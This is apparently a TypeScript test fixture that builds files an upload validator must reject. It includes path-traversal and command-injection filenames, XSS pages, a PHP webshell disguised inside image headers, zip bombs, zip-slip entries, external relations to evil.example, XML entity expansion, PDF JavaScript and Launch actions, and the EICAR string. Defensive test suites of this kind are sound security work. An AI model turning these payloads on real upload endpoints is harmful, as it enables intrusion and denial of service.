import { crc32, deflateSync } from 'node:zlib'
import { fileKinds } from '#platform/files/file-kinds.ts'
import { aZip, excelParts, openDocumentParts, wordParts, type ZipPart } from '#platform/files/testing/a-zip.ts'
import { aPdf, aPhoto, eicar } from '#platform/files/testing/sample-files.ts'
import type { SentFile } from '#tests/setup/multipart.ts'
import { chanceFrom } from '#worlds/chance.ts'

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const page = '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'
const file = (name: string, content: Buffer | string, type = 'application/octet-stream'): SentFile => ({
  field: 'file',
  name,
  type,
  content,
})
const docx = (parts: readonly ZipPart[]) => file('plan.docx', aZip(parts), word)
const withPart = (part: ZipPart) => docx([...wordParts, part])

/** Files that nobody sends by accident: every one must be refused. `seed` makes the random ones. */
export async function badFiles(seed: number): Promise<readonly SentFile[]> {
  const good = await goodFiles()
  return [
    ...oddNames(),
    ...otherKinds(),
    ...disguised(good),
    ...pictures(),
    ...archives(),
    ...pdfs(),
    ...texts(),
    ...broken(good, seed),
  ]
}

/** One good file of every kind, by its extension. */
export async function goodFiles(): Promise<ReadonlyMap<string, Buffer>> {
  return new Map<string, Buffer>([
    ['jpg', await aPhoto('jpeg', 200, 150)],
    ['png', await aPhoto('png', 200, 150)],
    ['webp', await aPhoto('webp', 200, 150)],
    ['pdf', aPdf()],
    ['txt', Buffer.from('Tea at nine.\n')],
    ['docx', aZip(wordParts)],
    ['xlsx', aZip(excelParts)],
    ['odt', aZip(openDocumentParts)],
  ])
}

function oddNames(): SentFile[] {
  const names = [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/cron.d/x',
    'C:\\x.png',
    '....//....//x.png',
    '%2e%2e%2fx.png',
    'photo.png%00.html',
    'photo.html\u0000.png',
    'photo\u202Egnp.html',
    'photo.png.',
    'photo.png ',
    '.png',
    '.htaccess',
    'con.png',
    'aux',
    'x'.repeat(5_000),
    `${'x'.repeat(300)}.png`,
    'photo.png;.html',
    'photo.png/..',
    'photo.PNG',
    'photo.p\u200Bng',
    '<script>.png',
    "'; drop table private.files; --.png",
    '$(touch x).png',
    '`id`.png',
    '🧑‍⚕️.png',
    '__proto__',
    'constructor.png',
    '-rf.png',
    '=cmd.csv.html',
    '\uFEFF.png',
    'photo.pnɡ',
    'photo.ｐｎｇ',
  ]
  return names.map((name) => file(name.replaceAll('"', ''), page, 'image/png'))
}

function otherKinds(): SentFile[] {
  const extensions = [
    'exe',
    'js',
    'mjs',
    'svg',
    'svgz',
    'html',
    'htm',
    'xhtml',
    'xml',
    'zip',
    'docm',
    'xlsm',
    'doc',
    'xls',
    'php',
    'sh',
    'bat',
    'lnk',
    'mp4',
    'mp3',
    'm4a',
    'gif',
    'heic',
    'tiff',
    'jar',
    'iso',
    'swf',
    'hta',
    'url',
    'rtf',
    'eml',
    'ico',
    'bmp',
    'wasm',
    'desktop',
  ]
  return extensions.map((extension) =>
    file(
      `file.${extension}`,
      extension.startsWith('svg') ? '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' : 'anything at all',
    ),
  )
}

/** Every good content under every name but its own. */
function disguised(good: ReadonlyMap<string, Buffer>): SentFile[] {
  const names = fileKinds.flatMap(({ extensions }) => extensions.slice(0, 1))
  return [...good].flatMap(([extension, content]) =>
    names
      .filter((name) => name !== extension && !(extension === 'txt' && name === 'csv'))
      .map((name) => file(`file.${name}`, content)),
  )
}

function pictures(): SentFile[] {
  const gif = Buffer.from('GIF89a/*\x01\x00\x01\x00*/=1;alert(1)', 'latin1')
  return [
    file('huge.png', png(50_000, 50_000), 'image/png'),
    file('huge.png', png(2_147_483_647, 2_147_483_647), 'image/png'),
    file('wide.png', png(60_000_001, 1), 'image/png'),
    file('none.png', png(0, 0), 'image/png'),
    file('short.png', png(4_000, 4_000), 'image/png'),
    file('page.png', Buffer.concat([png(1, 1).subarray(0, 33), Buffer.from(page)]), 'image/png'),
    file(
      'head.jpg',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<?php system($_GET[0]); ?>')]),
      'image/jpeg',
    ),
    file('huge.jpg', jpegHead(65_535, 65_535), 'image/jpeg'),
    file('gif.png', gif, 'image/png'),
    file('gif.jpg', gif, 'image/jpeg'),
    file('riff.webp', 'RIFF\xff\xff\xff\xffWEBPVP8X', 'image/webp'),
    file(
      'svg.png',
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>`,
      'image/png',
    ),
    file('tiff.png', Buffer.from('II*\x00\x08\x00\x00\x00', 'latin1'), 'image/png'),
  ]
}

function archives(): SentFile[] {
  const bomb = Buffer.alloc(40_000_000)
  const nested = aZip([{ name: 'a', content: bomb }])
  return [
    withPart({ name: 'word/media/a.xml', content: bomb }),
    withPart({ name: 'word/media/a.xml', content: Buffer.alloc(1_000_001) }),
    docx(Array.from({ length: 4 }, (_, n) => ({ name: `a${n}.xml`, content: bomb }))),
    docx([...wordParts, ...Array.from({ length: 2_001 }, (_, n) => ({ name: `a${n}`, content: 'x' }))]),
    withPart({ name: 'word/a.xml', content: 'x'.repeat(2_000), claims: { size: 10 } }),
    withPart({ name: 'word/a.xml', content: 'x'.repeat(2_000), claims: { size: 4_000_000_000 } }),
    withPart({ name: 'word/a.xml', content: 'x', claims: { crc: 1 } }),
    withPart({ name: 'word/a.xml', content: 'x', claims: { from: 0 } }),
    withPart({ name: 'word/a.xml', content: 'x', claims: { method: 12 } }),
    withPart({ name: 'word/a.xml', content: 'x', headerName: 'word/b.xml' }),
    withPart({ name: '../../evil.xml', content: 'x' }),
    withPart({ name: '/etc/passwd', content: 'x' }),
    withPart({ name: 'a\\b.xml', content: 'x' }),
    withPart({ name: 'a\u0000.xml', content: 'x' }),
    withPart({ name: 'WORD/document.xml', content: 'x' }),
    withPart({ name: 'word/vbaProject.bin', content: 'x' }),
    withPart({ name: 'word/embeddings/a.xlsx', content: 'x' }),
    withPart({ name: 'word/activeX/a.xml', content: 'x' }),
    withPart({ name: 'word/media/a.png', content: nested }),
    withPart({ name: 'word/media/a.png', content: nested, stored: true }),
    withPart({ name: 'a.exe', content: 'MZ' }),
    withPart({
      name: 'word/_rels/document.xml.rels',
      content: relation('attachedTemplate', 'http://evil.example/t.dotm'),
    }),
    withPart({ name: 'word/_rels/document.xml.rels', content: relation('oleObject', 'mhtml:http://evil.example/x') }),
    withPart({ name: 'word/_rels/document.xml.rels', content: relation('image', 'file://evil.example/x.png') }),
    withPart({ name: 'word/_rels/b.rels', content: 'x'.repeat(1_000_001), stored: true }),
    withPart({ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><x>&c;</x>' }),
    file('plan.docx', aZip(wordParts, { before: Buffer.from(page) }), word),
    file('plan.docx', aZip(wordParts, { after: Buffer.from(page) }), word),
    file('plan.docx', aZip([]), word),
    file('plan.docx', aZip([{ name: 'a', content: 'x' }]), word),
    file('plan.odt', aZip([...openDocumentParts, { name: 'Basic/script.xml', content: 'x' }])),
    file(
      'plan.odt',
      aZip([
        ...openDocumentParts.slice(0, 3),
        { name: 'META-INF/manifest.xml', content: '<manifest:encryption-data/>' },
      ]),
    ),
  ]
}

function relation(type: string, target: string): string {
  return `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`
}

function pdfs(): SentFile[] {
  const active = [
    '/OpenAction<</S/JavaScript/JS(app.alert(1))>>',
    '/AA<</O<</S/Launch/F(cmd.exe)>>>>',
    '/Names<</EmbeddedFiles 9 0 R>>',
    '/AcroForm<</XFA 3 0 R>>',
    '/A<</S/SubmitForm/F(http://evil.example)>>',
    '/A<</S/GoToE>>',
    '/RichMediaContent<</Type/RichMedia>>',
    '/S/#4aavaScript',
    '/S/#4A#61#76aScript',
    '/A<</S/ImportData>>',
  ]
  const pdf = (content: Buffer) => file('letter.pdf', content, 'application/pdf')
  return [
    ...active.map((more) => pdf(aPdf(more))),
    pdf(Buffer.concat([aPdf(), aZip(wordParts)])),
    pdf(Buffer.concat([Buffer.from(page), aPdf()])),
    pdf(Buffer.concat([aPdf(), Buffer.from(page)])),
    pdf(aPdf().subarray(0, 60)),
    pdf(Buffer.from('%PDF-9.9\n%%EOF')),
    pdf(Buffer.from('%PDF-1.4')),
  ]
}

function texts(): SentFile[] {
  const contents = [
    page,
    '<svg onload=alert(1)>',
    '  \n<html>',
    '<?php system("id") ?>',
    '#!/bin/sh\nid',
    '<script>1</script>',
    '<?xml version="1.0"?><a/>',
    '%PDF-1.4 and more',
    'MZ\x90\x00',
    'a\x00b',
    '\x1b[2J',
    'a\x08b',
    '',
    '<!-- --><iframe src=//evil>',
  ]
  return [
    ...contents.flatMap((content) => [file('a.txt', content, 'text/plain'), file('a.csv', content, 'text/csv')]),
    file('a.txt', Buffer.from('\ufeffwide', 'utf16le'), 'text/plain'),
    file('a.txt', Buffer.from([0xe2, 0x82]), 'text/plain'),
    file('a.txt', Buffer.from([0xc0, 0x80]), 'text/plain'),
    file('a.csv', Buffer.from('caf\xe9', 'latin1'), 'text/csv'),
    file('a.txt', 'honest words', 'text/html'),
    file('a.txt', eicar, 'application/x-msdownload'),
  ]
}

/** Good files that were cut, good files with a byte changed where it counts, and bytes that are nothing. */
function broken(good: ReadonlyMap<string, Buffer>, seed: number): SentFile[] {
  const chance = chanceFrom(seed)
  const whole = [...good].filter(([extension]) => extension !== 'txt')
  const cut = whole.flatMap(([extension, content]) =>
    Array.from({ length: 4 }, () =>
      file(`cut.${extension}`, content.subarray(0, chance.whole(1, Math.floor(content.length * 0.6)))),
    ),
  )
  const noise = whole.flatMap(([extension]) =>
    Array.from({ length: 3 }, () =>
      file(`noise.${extension}`, Buffer.from(Array.from({ length: 600 }, () => chance.whole(0, 255)))),
    ),
  )
  return [...cut, ...noise]
}

/** The head of a PNG of that size, with pixels for the first line only. */
function png(width: number, height: number): Buffer {
  const size = Buffer.alloc(13)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  size.set([8, 2, 0, 0, 0], 8)
  const chunk = (name: string, data: Buffer) => {
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const named = Buffer.concat([Buffer.from(name), data])
    const check = Buffer.alloc(4)
    check.writeUInt32BE(crc32(named))
    return Buffer.concat([length, named, check])
  }
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    signature,
    chunk('IHDR', size),
    chunk('IDAT', deflateSync(Buffer.alloc(100))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function jpegHead(width: number, height: number): Buffer {
  const frame = Buffer.from([
    0xff,
    0xd8,
    0xff,
    0xc0,
    0,
    11,
    8,
    height >> 8,
    height & 255,
    width >> 8,
    width & 255,
    1,
    1,
    0x11,
    0,
  ])
  return Buffer.concat([
    frame,
    Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 0x3f, 0]),
    Buffer.alloc(64),
    Buffer.from([0xff, 0xd9]),
  ])
}
